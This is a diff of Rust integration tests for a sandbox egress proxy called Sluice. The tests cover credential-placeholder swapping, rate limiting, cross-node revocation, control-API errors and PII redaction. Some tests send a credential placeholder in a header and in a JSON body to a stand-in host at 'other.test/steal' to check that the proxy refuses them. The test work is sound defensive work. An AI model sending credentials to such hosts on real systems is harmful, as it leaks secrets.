@@ -89,9 +89,19 @@ fn create(sluice: &Sluice, args: &[&str]) -> (String, String) {
 /// curl in a sandbox of `session`, trusting the Sluice CA; returns stdout as text.
 fn curl(sluice: &Sluice, session: &str, args: &[&str]) -> String {
     let ca = sluice.state_dir().join("ca.pem");
-    let mut argv = vec!["curl", "-sS", "--max-time", "10", "--cacert", ca.to_str().unwrap()];
+    let mut argv = vec![
+        "curl",
+        "-sS",
+        "--max-time",
+        "10",
+        "--cacert",
+        ca.to_str().unwrap(),
+    ];
     argv.extend_from_slice(args);
-    let out = sluice.exec(&["--session", session], &argv).output().unwrap();
+    let out = sluice
+        .exec(&["--session", session], &argv)
+        .output()
+        .unwrap();
     String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
 }
 
@@ -115,33 +125,66 @@ fn placeholders_are_swapped_only_toward_their_host_and_echoes_are_scrubbed() {
     let out = curl(
         &sluice,
         &id,
-        &["-i", "-H", "Authorization: Bearer sluice_cred:API_KEY", "https://api.test/v1/models"],
+        &[
+            "-i",
+            "-H",
+            "Authorization: Bearer sluice_cred:API_KEY",
+            "https://api.test/v1/models",
+        ],
     );
     assert!(out.starts_with("HTTP/2 200"), "{out}");
     let sent = w.api.requests();
-    let auth = sent.last().unwrap().headers["authorization"].to_str().unwrap().to_owned();
-    assert_eq!(auth, format!("Bearer {SECRET}"), "the upstream gets the real value");
-    assert!(!out.contains(SECRET), "the sandbox never sees the value: {out}");
+    let auth = sent.last().unwrap().headers["authorization"]
+        .to_str()
+        .unwrap()
+        .to_owned();
+    assert_eq!(
+        auth,
+        format!("Bearer {SECRET}"),
+        "the upstream gets the real value"
+    );
+    assert!(
+        !out.contains(SECRET),
+        "the sandbox never sees the value: {out}"
+    );
     assert!(
         out.contains("x-echoed-authorization: Bearer sluice_cred:API_KEY"),
         "{out}"
     );
-    assert!(out.contains("Bearer sluice_cred:API_KEY\"]"), "body echo scrubbed: {out}");
+    assert!(
+        out.contains("Bearer sluice_cred:API_KEY\"]"),
+        "body echo scrubbed: {out}"
+    );
 
     // Toward other.test: refused with a 403 naming the credential; nothing is sent there.
     let refused = curl(
         &sluice,
         &id,
-        &["-i", "-H", "Authorization: Bearer sluice_cred:API_KEY", "https://other.test/steal"],
+        &[
+            "-i",
+            "-H",
+            "Authorization: Bearer sluice_cred:API_KEY",
+            "https://other.test/steal",
+        ],
     );
     assert!(refused.starts_with("HTTP/2 403"), "{refused}");
-    assert!(refused.contains("API_KEY") && refused.contains("other.test"), "{refused}");
+    assert!(
+        refused.contains("API_KEY") && refused.contains("other.test"),
+        "{refused}"
+    );
     assert!(w.other.requests().is_empty(), "nothing reached other.test");
     // In a body, too (JSON to the wrong host).
     let body = curl(
         &sluice,
         &id,
-        &["-i", "-H", "content-type: application/json", "-d", "{\"key\":\"sluice_cred:API_KEY\"}", "https://other.test/steal"],
+        &[
+            "-i",
+            "-H",
+            "content-type: application/json",
+            "-d",
+            "{\"key\":\"sluice_cred:API_KEY\"}",
+            "https://other.test/steal",
+        ],
     );
     assert!(body.starts_with("HTTP/2 403"), "{body}");
     assert!(w.other.requests().is_empty(), "nothing reached other.test");
@@ -158,13 +201,21 @@ fn placeholders_are_swapped_only_toward_their_host_and_echoes_are_scrubbed() {
         .filter(|r| r["kind"] == "request" && r["decision"] == "deny")
         .collect();
     assert_eq!(refusals.len(), 2, "{refusals:?}");
-    assert!(refusals.iter().all(|r| r["reason"].as_str().unwrap().contains("API_KEY")));
+    assert!(
+        refusals
+            .iter()
+            .all(|r| r["reason"].as_str().unwrap().contains("API_KEY"))
+    );
 
     // Neither the token nor the value is in the audit log, the daemon log, or the store file.
     let audit = std::fs::read(sluice.state_dir().join("audit.jsonl")).unwrap();
     let log = sluice.log(1);
     let store = std::fs::read(sluice.state_dir().join("sessions.json")).unwrap();
-    for (what, bytes) in [("audit log", &audit[..]), ("daemon log", log.as_bytes()), ("sessions.json", &store[..])] {
+    for (what, bytes) in [
+        ("audit log", &audit[..]),
+        ("daemon log", log.as_bytes()),
+        ("sessions.json", &store[..]),
+    ] {
         assert_nowhere(bytes, SECRET, what);
         assert_nowhere(bytes, &token, what);
     }
@@ -176,22 +227,52 @@ fn the_61st_request_in_a_minute_gets_429_with_retry_after() {
     let sluice = w.sluice("");
     let (id, _) = create(&sluice, &["--rate", "api.test=60"]);
     let url = "https://api.test/limited";
-    let mut args = vec!["-o", "/dev/null", "-w", "%{http_code} %header{retry-after}\\n"];
-    args.extend(std::iter::repeat_n(url, 61));
+    let mut args = vec!["-w", "%{http_code} %header{retry-after}\\n"];
+    for _ in 0..61 {
+        args.extend(["-o", "/dev/null", url]);
+    }
     let out = curl(&sluice, &id, &args);
     let codes: Vec<&str> = out.lines().collect();
     assert_eq!(codes.len(), 61, "{out}");
     assert!(codes[..60].iter().all(|c| c.starts_with("200")), "{out}");
     let (status, retry) = codes[60].split_once(' ').unwrap();
     assert_eq!(status, "429", "{out}");
-    let retry: u64 = retry.trim().parse().unwrap_or_else(|_| panic!("Retry-After: {out}"));
+    let retry: u64 = retry
+        .trim()
+        .parse()
+        .unwrap_or_else(|_| panic!("Retry-After: {out}"));
     assert!((1..=60).contains(&retry), "{out}");
-    assert_eq!(w.api.requests().len(), 60, "the 61st never reached the host");
+    assert_eq!(
+        w.api.requests().len(),
+        60,
+        "the 61st never reached the host"
+    );
 }
 
-/// Two daemons sharing one Redis: "node B" uses other ports, cgroups and pins.
+/// Two daemons sharing one Redis and one master key: "node B" uses other ports, cgroups and
+/// pins.
 fn two_nodes(w: &World, redis: &RedisServer) -> (Sluice, Sluice) {
-    let store = format!("[store]\nredis_url = {:?}\n", redis.url());
+    use base64::Engine;
+    use std::os::unix::fs::OpenOptionsExt;
+    let key_file = redis.dir().join("master.key");
+    let key: [u8; 32] = std::array::from_fn(|i| (i as u8).wrapping_mul(97).wrapping_add(13));
+    let mut file = std::fs::OpenOptions::new()
+        .create_new(true)
+        .write(true)
+        .mode(0o600)
+        .open(&key_file)
+        .unwrap();
+    std::io::Write::write_all(
+        &mut file,
+        base64::engine::general_purpose::STANDARD
+            .encode(key)
+            .as_bytes(),
+    )
+    .unwrap();
+    let store = format!(
+        "[store]\nredis_url = {:?}\nmaster_key_file = {key_file:?}\n",
+        redis.url()
+    );
     let a = w.sluice(&store);
     let b = w.sluice(&format!(
         "{store}[listen]\ntransparent_port = 15011\ndns_port = 15063\ncontrol = \"127.0.0.1:3001\"\nproxy = \"127.0.0.1:3129\"\n"
@@ -199,17 +280,36 @@ fn two_nodes(w: &World, redis: &RedisServer) -> (Sluice, Sluice) {
     (a, b)
 }
 
-/// A request through node B's explicit proxy with `token`; returns the HTTP status.
+/// A request through node B's explicit proxy with `token`; returns the final status, or the
+/// proxy's answer to CONNECT when there was no final response (407 when refused).
 fn via_proxy_b(b: &Sluice, token: &str) -> String {
     let out = b
         .node_command("curl")
-        .args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5"])
-        .args(["-x", "http://127.0.0.1:3129", "--proxy-user", &format!("sluice:{token}")])
+        .args([
+            "-sS",
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code} %{http_connect}",
+            "--max-time",
+            "5",
+        ])
+        .args([
+            "-x",
+            "http://127.0.0.1:3129",
+            "--proxy-user",
+            &format!("sluice:{token}"),
+        ])
         .args(["--cacert", b.state_dir().join("ca.pem").to_str().unwrap()])
         .arg("https://api.test/via-b")
         .output()
         .unwrap();
-    String::from_utf8_lossy(&out.stdout).into_owned()
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    match text.split_once(' ') {
+        Some(("000", connect)) => connect.to_owned(),
+        Some((status, _)) => status.to_owned(),
+        None => text,
+    }
 }
 
 #[test]
@@ -218,8 +318,16 @@ fn revocation_on_one_node_reaches_another_within_a_second_and_redis_holds_no_sec
     let redis = RedisServer::start().unwrap();
     let (a, b) = two_nodes(&w, &redis);
     let (id, token) = create(&a, &["--cred", "API_KEY=env:SECRET@api.test"]);
-    assert_eq!(via_proxy_b(&b, &token), "200", "node B knows node A's session");
-    let revoke = a.command().args(["session", "revoke", &id]).output().unwrap();
+    assert_eq!(
+        via_proxy_b(&b, &token),
+        "200",
+        "node B knows node A's session"
+    );
+    let revoke = a
+        .command()
+        .args(["session", "revoke", &id])
+        .output()
+        .unwrap();
     assert!(revoke.status.success(), "{revoke:?}");
     let revoked_at = Instant::now();
     let mut status = String::new();
@@ -260,14 +368,28 @@ fn a_redis_outage_keeps_cached_sessions_refuses_unknown_ones_and_loses_no_audit_
     let (known, _) = create(&sluice, &[]);
     let (unseen, _) = create(&sluice, &[]);
     let status = |session: &str, path: &str| {
-        curl(&sluice, session, &["-o", "/dev/null", "-w", "%{http_code}", &format!("https://api.test/{path}")])
+        curl(
+            &sluice,
+            session,
+            &[
+                "-o",
+                "/dev/null",
+                "-w",
+                "%{http_code}",
+                &format!("https://api.test/{path}"),
+            ],
+        )
     };
     assert_eq!(status(&known, "before"), "200");
 
     redis.stop();
     let mut during = 0;
     for i in 0..5 {
-        assert_eq!(status(&known, &format!("during-{i}")), "200", "a cached session keeps working");
+        assert_eq!(
+            status(&known, &format!("during-{i}")),
+            "200",
+            "a cached session keeps working"
+        );
         during += 1;
     }
     // Enrolling under a session the node has not seen needs the store: refused.
@@ -284,12 +406,17 @@ fn a_redis_outage_keeps_cached_sessions_refuses_unknown_ones_and_loses_no_audit_
         let dump = redis
             .cli(&["XRANGE", "sluice:audit", "-", "+"])
             .unwrap_or_default();
-        dump.matches(&format!("\"url\":\"https://api.test/{prefix}")).count()
+        dump.matches(&format!("\"url\":\"https://api.test/{prefix}"))
+            .count()
     };
     while count("during-") < during && Instant::now() < deadline {
         std::thread::sleep(Duration::from_millis(100));
     }
-    assert_eq!(count("during-"), during, "outage records replayed exactly once");
+    assert_eq!(
+        count("during-"),
+        during,
+        "outage records replayed exactly once"
+    );
     assert_eq!(count("before"), 1);
 }
 
@@ -305,14 +432,27 @@ fn the_control_api_answers_bad_input_with_the_right_status() {
             cmd.args(["-H", &format!("Authorization: Bearer {}", auth.trim())]);
         }
         if let Some(body) = body {
-            cmd.args(["-H", "content-type: application/json", "--data-binary", body]);
+            cmd.args([
+                "-H",
+                "content-type: application/json",
+                "--data-binary",
+                body,
+            ]);
         }
-        let out = cmd.arg(format!("http://127.0.0.1:3000{path}")).output().unwrap();
+        let out = cmd
+            .arg(format!("http://127.0.0.1:3000{path}"))
+            .output()
+            .unwrap();
         let text = String::from_utf8_lossy(&out.stdout).into_owned();
         let (body, status) = text.rsplit_once('\n').unwrap();
         (status.to_owned(), body.to_owned())
     };
-    let (status, body) = call("POST", "/v1/sessions", Some(&token), Some("{\"ttl_seconds\": \"soon\"}"));
+    let (status, body) = call(
+        "POST",
+        "/v1/sessions",
+        Some(&token),
+        Some("{\"ttl_seconds\": \"soon\"}"),
+    );
     assert_eq!(status, "400", "{body}");
     assert!(body.contains("ttl_seconds"), "names the field: {body}");
     let (status, body) = call(
@@ -325,17 +465,107 @@ fn the_control_api_answers_bad_input_with_the_right_status() {
     assert!(body.contains("credentials[0].hosts"), "{body}");
     assert!(!body.contains("\"v\""), "never echoes a value: {body}");
     assert_eq!(call("GET", "/v1/sessions", None, None).0, "401");
-    assert_eq!(call("GET", "/v1/sessions", Some("sluice_adm_wrong"), None).0, "401");
+    assert_eq!(
+        call("GET", "/v1/sessions", Some("sluice_adm_wrong"), None).0,
+        "401"
+    );
     let (status, body) = call("GET", "/v1/sessions/ses_nosuchsession", Some(&token), None);
     assert_eq!(status, "404", "{body}");
     let big = format!("{{\"labels\": {{\"x\": \"{}\"}}}}", "a".repeat(100_000));
-    assert_eq!(call("POST", "/v1/sessions", Some(&token), Some(&big)).0, "413");
-    assert_eq!(call("GET", "/v1/health", None, None).0, "200", "health needs no token");
+    assert_eq!(
+        call("POST", "/v1/sessions", Some(&token), Some(&big)).0,
+        "413"
+    );
+    assert_eq!(
+        call("GET", "/v1/health", None, None).0,
+        "200",
+        "health needs no token"
+    );
     // The OpenAPI document lists every path this test used.
     let (status, doc) = call("GET", "/v1/openapi.json", Some(&token), None);
     assert_eq!(status, "200");
     let doc: Value = serde_json::from_str(&doc).unwrap();
-    for path in ["/v1/sessions", "/v1/sessions/{id}", "/v1/health", "/v1/audit"] {
+    for path in [
+        "/v1/sessions",
+        "/v1/sessions/{id}",
+        "/v1/health",
+        "/v1/audit",
+    ] {
         assert!(doc["paths"].get(path).is_some(), "{path} documented");
     }
+}
+
+#[test]
+fn pii_is_detected_redacted_or_blocked_by_session_mode() {
+    let w = world();
+    let sluice = w.sluice("");
+    let body = r#"{"note":"mail jane.doe@example.com, card 4111 1111 1111 1111"}"#;
+    let post = |session: &str| {
+        curl(
+            &sluice,
+            session,
+            &[
+                "-i",
+                "-H",
+                "content-type: application/json",
+                "--data-binary",
+                body,
+                "https://api.test/v1/notes",
+            ],
+        )
+    };
+    let echo = |out: &str| -> Value {
+        let json = &out[out.find('{').unwrap_or_else(|| panic!("{out}"))..];
+        serde_json::from_str(json.trim()).unwrap_or_else(|_| panic!("{out}"))
+    };
+
+    let (detect, _) = create(&sluice, &["--pii", "detect"]);
+    let out = post(&detect);
+    assert!(out.starts_with("HTTP/2 200"), "{out}");
+    assert_eq!(
+        echo(&out)["body_sha256"],
+        tests::upstream::sha256_hex(body.as_bytes()),
+        "detect sends the body unchanged"
+    );
+
+    let (redact, _) = create(&sluice, &["--pii", "redact"]);
+    let out = post(&redact);
+    let redacted = r#"{"note":"mail [REDACTED:email], card [REDACTED:card_number]"}"#;
+    assert_eq!(
+        echo(&out)["body_sha256"],
+        tests::upstream::sha256_hex(redacted.as_bytes()),
+        "{out}"
+    );
+    assert_eq!(
+        echo(&out)["body_len"],
+        redacted.len(),
+        "Content-Length matches the redacted body"
+    );
+
+    let (block, _) = create(&sluice, &["--pii", "block"]);
+    let before = w.api.requests().len();
+    let out = post(&block);
+    assert!(out.starts_with("HTTP/2 403"), "{out}");
+    assert!(out.contains("PII in request body: email"), "{out}");
+    assert_eq!(
+        w.api.requests().len(),
+        before,
+        "a blocked body never reaches the host"
+    );
+
+    let records = sluice.audit();
+    for (session, decision) in [(&detect, "allow"), (&redact, "allow"), (&block, "deny")] {
+        let record = records
+            .iter()
+            .find(|r| r["kind"] == "request" && r["session"] == session.as_str())
+            .unwrap_or_else(|| panic!("{records:?}"));
+        assert_eq!(record["decision"], decision, "{record}");
+        assert!(
+            record["pii"]["email"].as_u64().is_some_and(|n| n >= 1),
+            "types and counts: {record}"
+        );
+    }
+    let audit = std::fs::read(sluice.state_dir().join("audit.jsonl")).unwrap();
+    assert_nowhere(&audit, "jane.doe@example.com", "the audit log");
+    assert_nowhere(&audit, "4111 1111", "the audit log");
 }
